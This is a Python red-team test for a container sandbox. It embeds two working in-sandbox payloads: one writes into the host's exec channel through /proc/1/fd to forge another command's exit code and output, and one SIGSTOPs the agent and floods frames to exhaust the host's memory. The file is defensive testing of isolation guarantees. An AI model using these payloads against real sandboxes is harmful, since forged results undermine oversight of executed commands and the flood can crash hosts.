# ruff: noqa: E501  (raw protocol bytes and shell probes read best on one line)
"""Red team: a command in the session opens the exec channel through /proc/1/fd (tini)
or /proc/<timeout>/fd (both dumpable, same uid as every command; the agent's
PR_SET_DUMPABLE=0 protects only the agent itself, and not at all under runsc).

1. forged exit: the host believes another exec ended with exit 0 and output "FORGED".
2. host memory: with the agent SIGSTOPped (same uid: kill() is allowed), a flood of
   ``tcp_open`` frames with a stale connection number makes the host `_post` a
   ``tcp_close`` per frame into the attach socket's write buffer, which nobody reads:
   the host's memory grows without bound (no WRITE_STALL applies to `_post`).

Run: .venv/bin/python -m tests.redteam_pending.channel_forgery [runc|runsc] [forge|flood]
Exit status 1 when the attack worked (the promise is broken).
"""

from __future__ import annotations

import asyncio
import os
import re
import resource
import sys

from sandbox import DockerBackend, SessionSpec
from security import NetworkPolicy

FRAME_LIB = r"""
import json, os, struct, signal, sys, time
def channel():
    for path in ("/proc/1/fd/1",):
        try:
            return os.open(path, os.O_WRONLY)
        except OSError as e:
            print("cannot open", path, e, file=sys.stderr)
    raise SystemExit(3)
def frame(header, payload=b""):
    head = json.dumps(header, separators=(",", ":")).encode() + b"\n"
    return struct.pack(">I", len(head) + len(payload)) + head + payload
"""

FORGE = (
    FRAME_LIB
    + r"""
fd = channel()
victim = int(sys.argv[1])
time.sleep(1.0)
os.write(fd, frame({"type": "output", "id": victim, "stream": "stdout"}, b"FORGED\n"))
os.write(fd, frame({"type": "exit", "id": victim, "exit_code": 0, "signal": None,
                    "timed_out": False, "oom_killed": False, "duration": 0.1}))
print("forged exit for", victim)
"""
)

FLOOD = (
    FRAME_LIB
    + r"""
fd = channel()
agent = None
for p in os.listdir("/proc"):
    if p.isdigit():
        cmd = open(f"/proc/{p}/cmdline", "rb").read()
        if cmd.startswith(b"python3\0-I\0-S\0-c"):
            agent = int(p)
os.kill(agent, signal.SIGSTOP)
one = frame({"type": "tcp_open", "conn": -(10 ** 1000)}) * 3  # < PIPE_BUF: atomic
end = time.time() + float(sys.argv[1])
sent = 0
try:
    while time.time() < end:
        sent += os.write(fd, one)
finally:
    os.kill(agent, signal.SIGCONT)
print("flood bytes", sent)
"""
)


def _next_id(session: object) -> int:
    text = repr(session.channel._ids)  # type: ignore[attr-defined]  # itertools.count(N)
    match = re.search(r"\d+", text)
    assert match
    return int(match.group())


async def forge(runtime: str) -> bool:
    spec = SessionSpec(runtime=runtime, egress=NetworkPolicy(allow=["files.test"]))
    async with DockerBackend().session(spec) as s:
        forger_id = _next_id(s)
        forger = asyncio.create_task(
            s.exec(["python3", "-c", FORGE, str(forger_id + 1)], timeout=30)
        )
        await asyncio.sleep(0.2)
        victim = await s.exec(["sh", "-c", "sleep 4; echo genuine; exit 7"], timeout=30)
        f = await forger
        print("forger:", f.exit_code, f.stdout, f.stderr[-300:])
        print("victim as the host sees it:", victim.exit_code, victim.stdout)
        return victim.exit_code == 0 and b"FORGED" in victim.stdout


async def flood(runtime: str, seconds: float = 20.0) -> bool:
    spec = SessionSpec(runtime=runtime, egress=NetworkPolicy(allow=["files.test"]))
    async with DockerBackend().session(spec) as s:
        transport = s.channel._writer.transport  # type: ignore[attr-defined]
        rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        task = asyncio.create_task(s.exec(["python3", "-c", FLOOD, str(seconds)], timeout=120))
        peak = 0
        lag = 0.0
        loop = asyncio.get_running_loop()
        while not task.done():
            peak = max(peak, transport.get_write_buffer_size())
            before = loop.time()
            await asyncio.sleep(0.2)
            lag = max(lag, loop.time() - before - 0.2)
        r = task.result()
        rss1 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        print("flooder:", r.exit_code, r.error, r.stdout, r.stderr[-300:])
        print(
            f"host write buffer peak: {peak / 2**20:.1f} MiB in {seconds:g} s;"
            f" max RSS {rss0 / 1024:.0f} -> {rss1 / 1024:.0f} MiB; worst event-loop lag {lag * 1000:.0f} ms"
        )
        return peak > 64 * 2**20


if __name__ == "__main__":
    os.environ["AIRLOCK_EGRESS_RESOLVE"] = "files.test=127.0.0.1"
    runtime = sys.argv[1] if len(sys.argv) > 1 else "runc"
    which = sys.argv[2] if len(sys.argv) > 2 else "forge"
    broken = asyncio.run(forge(runtime) if which == "forge" else flood(runtime))
    print("BROKEN" if broken else "held")
    sys.exit(1 if broken else 0)
